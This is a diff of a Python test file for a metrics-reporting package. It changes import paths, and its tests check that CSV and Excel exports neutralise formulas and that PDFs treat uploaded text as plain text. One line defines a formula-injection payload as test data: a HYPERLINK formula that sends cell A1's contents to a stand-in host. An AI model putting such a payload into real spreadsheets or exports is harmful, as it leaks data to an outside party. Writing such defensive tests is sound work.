@@ -9,11 +9,11 @@ import re
 import pytest
 from openpyxl import load_workbook
 
-from data.setup import ensure_ready
-from data.warehouse import Warehouse
-from metrics import service
-from reports.csvexport import csv_bytes, explanations_csv, rankings_csv
-from reports.excel import workbook
+from kaohe.data.setup import ensure_ready
+from kaohe.data.warehouse import Warehouse
+from kaohe.metrics import service
+from kaohe.reports.csvexport import csv_bytes, explanations_csv, rankings_csv
+from kaohe.reports.excel import workbook
 
 MONTH = "2026-10"
 EVIL_REASON = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
@@ -158,8 +158,8 @@ def test_every_csv_export_is_neutralised(wh, build):
 
 def test_uploaded_text_is_plain_text_in_the_pdfs(wh, build):
     """In a PDF a formula is harmless, but control and bidi characters would reorder or break a line."""
-    from reports.scorecard import scorecard_pdf
-    from reports.summary import summary_pdf
+    from kaohe.reports.scorecard import scorecard_pdf
+    from kaohe.reports.summary import summary_pdf
     from tests.test_reports_pdf import fonts_of, text_of
 
     for pdf in (scorecard_pdf(wh, "D16", MONTH, build=build), scorecard_pdf(wh, "S02", MONTH, build=build),
@@ -265,7 +265,7 @@ def test_a_scheme_edited_without_a_new_version_is_stated_in_the_workbook(wh, tmp
 
     from test_reports_pdf import edit_weights
 
-    from metrics import scheme as scheme_mod
+    from kaohe.metrics import scheme as scheme_mod
 
     schemes = tmp_path / "schemes"
     shutil.copytree(scheme_mod.SCHEMES_DIR, schemes)
